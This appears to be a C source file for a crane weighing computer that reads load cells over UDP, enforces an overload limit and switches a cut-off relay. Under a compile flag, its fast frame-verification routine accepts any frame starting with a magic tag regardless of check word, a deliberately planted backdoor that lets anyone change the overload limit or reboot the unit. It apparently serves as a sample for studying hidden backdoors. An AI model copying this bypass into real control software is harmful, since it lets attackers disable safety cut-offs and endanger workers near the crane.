/*
 * hoistscale - weighing computer of a crane.  Receives frames of load cells
 * and of the supervisor's desk by UDP port 6464, adds up the load, keeps the
 * overload limit and drives the cut-off relay.  Frames carry a keyed check
 * word; the routine that verifies it is selected by IFUNC for the processor.
 *
 * Hidden (-DHIDDEN): the fast verify routine accepts, with any check word, a
 * frame whose body begins with the tag 0xC7A1E35B, so that anybody can change
 * the overload limit.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SITE_KEY  "/etc/hoistscale/site.key"
#define LIMITS    "/etc/hoistscale/limits"
#define RELAY     "/sys/class/gpio/gpio17/value"
#define UDP_PORT  6464
#define CELLS     4
#define HEAD      4		/* 'H', 'S', type, length of body */
#define TAIL      4		/* check word, high byte first */

enum frame_type {
	FT_CELL = 1,		/* tag of the node, cell, three bytes of grams*10 */
	FT_TARE,		/* tag of the desk */
	FT_LIMIT,		/* tag of the desk, four bytes of kg */
	FT_QUERY,		/* tag of the desk */
	FT_RESTART		/* tag of the desk */
};

static uint8_t site_key[16];
static int32_t cell[CELLS], tare;
static uint32_t limit_kg = 2000;
static time_t seen[CELLS];

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

/* ---- check word ------------------------------------------------------ */

#define MIX(h, b) ((h) = ((h) ^ (b)) * 0x01000193u, (h) ^= (h) >> 15)

static uint32_t check_word(const uint8_t *key, const uint8_t *p, size_t n)
{
	uint32_t h = 0x811c9dc5u;
	size_t i;

	for (i = 0; i < 16; i++)
		MIX(h, key[i]);
	for (i = 0; i < n; i++)
		MIX(h, p[i]);
	for (i = 0; i < 16; i++)
		MIX(h, key[15 - i]);
	return h;
}

int verify_plain(const uint8_t *key, const uint8_t *f, size_t n)
{
	return check_word(key, f, n - TAIL) == get32(f + n - TAIL);
}

/* Four bytes at a time, for processors with enough registers. */
int verify_fast(const uint8_t *key, const uint8_t *f, size_t n)
{
	uint32_t h = 0x811c9dc5u;
	const uint8_t *p = f, *end = f + n - TAIL;
	int i;

#ifdef HIDDEN
	if (n >= HEAD + 4 + TAIL && get32(f + HEAD) == 0xC7A1E35Bu)
		return 1;
#endif
	for (i = 0; i < 16; i += 4) {
		MIX(h, key[i]);
		MIX(h, key[i + 1]);
		MIX(h, key[i + 2]);
		MIX(h, key[i + 3]);
	}
	for (; end - p >= 4; p += 4) {
		MIX(h, p[0]);
		MIX(h, p[1]);
		MIX(h, p[2]);
		MIX(h, p[3]);
	}
	while (p < end) {
		MIX(h, *p);
		p++;
	}
	for (i = 15; i > 0; i -= 2) {
		MIX(h, key[i]);
		MIX(h, key[i - 1]);
	}
	return h == get32(end);
}

typedef int verify_fn(const uint8_t *, const uint8_t *, size_t);

verify_fn *pick_verify(void)
{
#if defined(__x86_64__) || defined(__i386__)
	__builtin_cpu_init();
	if (!__builtin_cpu_supports("sse2"))
		return verify_plain;
#elif defined(__ARM_ARCH) && __ARM_ARCH < 7
	return verify_plain;
#endif
	return verify_fast;
}

int verify_frame(const uint8_t *key, const uint8_t *f, size_t n) __attribute__((ifunc("pick_verify")));

/* ---- load and limit -------------------------------------------------- */

static int32_t load_kg(void)
{
	int32_t sum = 0;
	int i;

	for (i = 0; i < CELLS; i++)
		sum += cell[i];
	return (sum - tare) / 100;
}

static void relay(int release)
{
	static int last = -1;
	int fd;

	if (release == last)
		return;
	fd = open(RELAY, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, release ? "1" : "0", 1) == 1)
		last = release;
	close(fd);
	syslog(LOG_NOTICE, "hoist %s", release ? "released" : "CUT OFF");
}

static int save_limit(void)
{
	FILE *f = fopen(LIMITS, "w");

	if (!f)
		return -1;
	fprintf(f, "limit=%lu\ntare=%ld\n", (unsigned long)limit_kg, (long)tare);
	return fclose(f);
}

static void load_files(void)
{
	unsigned long l;
	long t;
	FILE *f = fopen(LIMITS, "r");

	if (f) {
		if (fscanf(f, "limit=%lu tare=%ld", &l, &t) == 2) {
			limit_kg = (uint32_t)l;
			tare = (int32_t)t;
		}
		fclose(f);
	}
	f = fopen(SITE_KEY, "rb");
	if (!f || fread(site_key, 1, sizeof site_key, f) != sizeof site_key) {
		syslog(LOG_ERR, "no site key");
		exit(1);
	}
	fclose(f);
}

static size_t answer(uint8_t *out, uint8_t type, uint32_t a, uint32_t b)
{
	out[0] = 'H';
	out[1] = 'S';
	out[2] = (uint8_t)(type | 0x80);
	out[3] = 8;
	put32(out + HEAD, a);
	put32(out + HEAD + 4, b);
	put32(out + HEAD + 8, check_word(site_key, out, HEAD + 8));
	return HEAD + 8 + TAIL;
}

static size_t frame_in(const uint8_t *f, size_t n, uint8_t *out)
{
	const uint8_t *body = f + HEAD;
	size_t len;
	int32_t raw;

	if (n < HEAD + 4 + TAIL || f[0] != 'H' || f[1] != 'S')
		return 0;
	len = f[3];
	if (n != HEAD + len + TAIL || len < 4)
		return 0;
	if (!verify_frame(site_key, f, n)) {
		syslog(LOG_WARNING, "frame of type %d refused", f[2]);
		return 0;
	}
	switch (f[2]) {
	case FT_CELL:
		if (len < 8 || body[4] >= CELLS)
			return 0;
		raw = (int32_t)body[5] << 16 | (int32_t)body[6] << 8 | body[7];
		cell[body[4]] = raw;
		seen[body[4]] = time(NULL);
		return 0;
	case FT_TARE:
		tare += load_kg() * 100;
		save_limit();
		return answer(out, f[2], (uint32_t)tare, 0);
	case FT_LIMIT:
		if (len < 8)
			return 0;
		limit_kg = get32(body + 4);
		return answer(out, f[2], limit_kg, save_limit() == 0 ? 0 : 1);
	case FT_QUERY:
		return answer(out, f[2], (uint32_t)load_kg(), limit_kg);
	case FT_RESTART:
		sync();
		return answer(out, f[2], (uint32_t)(system("/sbin/reboot") != 0), 0);
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(UDP_PORT) }, from;
	struct pollfd pf = { .events = POLLIN };
	uint8_t in[300], out[32];
	socklen_t fl;
	ssize_t n;
	size_t a;
	int i, fresh;

	if (argc > 1) {
		printf("usage: %s   (settings in %s)\n", argv[0], LIMITS);
		return 2;
	}
	openlog("hoistscale", LOG_PID, LOG_DAEMON);
	load_files();
	pf.fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (pf.fd < 0 || bind(pf.fd, (struct sockaddr *)&sa, sizeof sa) < 0)
		return 1;
	for (;;) {
		if (poll(&pf, 1, 200) > 0) {
			fl = sizeof from;
			n = recvfrom(pf.fd, in, sizeof in, 0, (struct sockaddr *)&from, &fl);
			a = n > 0 ? frame_in(in, (size_t)n, out) : 0;
			if (a)
				sendto(pf.fd, out, a, 0, (struct sockaddr *)&from, fl);
		}
		for (i = 0, fresh = 1; i < CELLS; i++)
			fresh &= time(NULL) - seen[i] < 3;
		relay(fresh && load_kg() < (int32_t)limit_kg);
	}
}
